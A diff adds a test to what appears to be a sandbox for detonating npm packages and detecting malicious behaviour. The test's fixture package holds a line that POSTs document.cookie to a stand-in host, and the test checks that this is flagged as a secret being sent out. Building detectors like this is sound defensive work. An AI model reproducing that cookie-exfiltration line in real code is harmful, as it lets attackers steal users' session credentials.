@@ -121,6 +121,28 @@ describe("detonatePackage", () => {
     );
   });
 
+  test("loads in a page what only pages load, and what speaks of them", async () => {
+    const steal = "fetch('https://drop.invalid/', { method: 'POST', body: document.cookie })";
+    const { triggers, findings } = await detonate(
+      {
+        "package.json": manifest({ main: "index.js", browser: "page.js" }),
+        "index.js": `if (typeof window !== "undefined") ${steal}`,
+        "page.js": steal,
+      },
+      { triggers: ["import"] },
+    );
+
+    const names = triggers.map(({ trigger, worlds }) => [trigger.name, worlds.map(({ name }) => name)]);
+    expect(names).toEqual([
+      ["index.js", ["linux-laptop", "darwin-laptop", "win32-laptop", "win32-page"]],
+      ["page.js", ["win32-page"]],
+    ]);
+    expect(findings.map(({ id, strength }) => [id, strength])).toContainEqual([
+      "planted-secret-sent",
+      "decisive",
+    ]);
+  });
+
   test("jumps to what waits, and lets what never ends be", async () => {
     const { triggers } = await detonate(
       {
